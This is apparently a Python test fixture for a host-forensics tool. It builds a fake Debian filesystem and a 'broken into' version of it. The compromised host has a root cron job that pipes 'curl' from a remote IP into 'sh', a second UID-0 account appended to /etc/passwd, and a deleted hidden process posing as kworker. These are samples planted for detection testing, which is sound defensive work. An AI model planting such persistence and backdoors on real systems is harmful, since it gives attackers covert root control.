"""A whole small host, made up: quiet as it stands, and what an intruder would add to it."""

from pathlib import Path

from hemostat.model.path import encode
from made_roots import install_dpkg, put

STAT = "%d (%s) S %d 1 1 0 -1 0 0 0 0 0 %d 0 0 0 20 0 1 0 500 0 3 0"
INIT = b"\x7fELF made-up init"

JOB = "* * * * * root curl -s http://198.51.100.7/a | sh\n"
SECOND_ROOT = "backup:x:0:0::/root:/bin/bash\n"
LOST_PROGRAM = "/tmp/.x/kworker (deleted)"


def make_host(root: Path) -> Path:
    """A Debian with one package, one process and nothing wrong; the root itself comes back."""
    for folder in ("dev", "home", "root", "run", "sys", "tmp", "var", "proc/sys/kernel"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    put(root, "/etc/os-release", b'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n')
    put(root, "/etc/machine-id", b"0123456789abcdef0123456789abcdef\n")
    put(root, "/etc/hostname", b"web-01\n")
    put(root, "/etc/group", b"root:x:0:\n")
    accounts = b"root:x:0:0:root:/root:/bin/bash\nwww:x:33:33::/var/www:/usr/sbin/nologin\n"
    put(root, "/etc/passwd", accounts)
    put(root, "/etc/shadow", b"root:*:19000:0:99999:7:::\nwww:*:19000:0:99999:7:::\n", 0o640)
    put(root, "/usr/sbin/init", INIT, 0o755)
    install_dpkg(root, "init", {"/usr/sbin/init": INIT})
    add_process(root, 1, "/usr/sbin/init", ppid=0)
    return root


def add_process(root: Path, pid: int, exe: str, *, ppid: int = 1) -> None:
    """One process in the snapshot of /proc; the executable's text is as the kernel tells it."""
    folder = root / "proc" / str(pid)
    (folder / "fd").mkdir(parents=True)
    (folder / "ns").mkdir()
    name = exe.removesuffix(" (deleted)").rpartition("/")[2]
    (folder / "stat").write_bytes(encode(STAT % (pid, name, ppid, 0)))
    (folder / "status").write_bytes(encode(f"Name:\t{name}\nPPid:\t{ppid}\nUid:\t0\t0\t0\t0\n"))
    (folder / "cmdline").write_bytes(encode(exe.removesuffix(" (deleted)")) + b"\0")
    for file in ("environ", "maps"):
        (folder / file).write_bytes(b"")
    (folder / "cgroup").write_bytes(b"0::/system.slice/a.service\n")
    for link, text in (("exe", exe), ("cwd", "/"), ("root", "/")):
        (folder / link).symlink_to(text)


def hurt_host(root: Path) -> Path:
    """The same host broken into: a job that fetches and runs, a second root, a lost program."""
    make_host(root)
    put(root, "/etc/cron.d/update", JOB.encode())
    with (root / "etc/passwd").open("a") as passwd:
        passwd.write(SECOND_ROOT)
    add_process(root, 4711, LOST_PROGRAM)
    return root
